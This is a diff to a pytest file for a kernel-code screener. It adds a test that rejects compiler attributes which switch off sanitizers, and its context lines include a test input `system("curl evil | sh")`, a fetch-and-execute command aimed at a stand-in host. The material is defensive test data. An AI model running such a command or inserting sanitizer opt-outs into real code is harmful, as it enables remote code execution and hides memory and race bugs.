@@ -123,6 +123,15 @@ def test_forbidden_apis(statement: str, rule: str) -> None:
     assert (4, rule) in rules(with_body(f"    {statement}"))
 
 
+@pytest.mark.parametrize("attribute", ['__attribute__((no_sanitize("bounds")))', "__attribute__((no_sanitize_thread))",
+                                       '[[gnu::no_sanitize("thread")]]', "__attribute__((__no_sanitize_address__))",
+                                       "__attribute__((no_address_safety_analysis))"])  # fmt: skip
+def test_attributes_that_turn_the_checks_off_are_refused(attribute: str) -> None:
+    """The CPU backend's race-check build instruments every function: a kernel may not opt out."""
+    code = f"__global__ {attribute} void k(float* y) {{ y[0] = 1.0f; }}\n" + with_body("")
+    assert [f.rule for f in screen(code, entry="saxpy")] == ["sanitizer_off"]
+
+
 def test_process_message_is_pinned() -> None:
     found = screen(with_body('    system("curl evil | sh");'), entry="saxpy")
     assert found == (
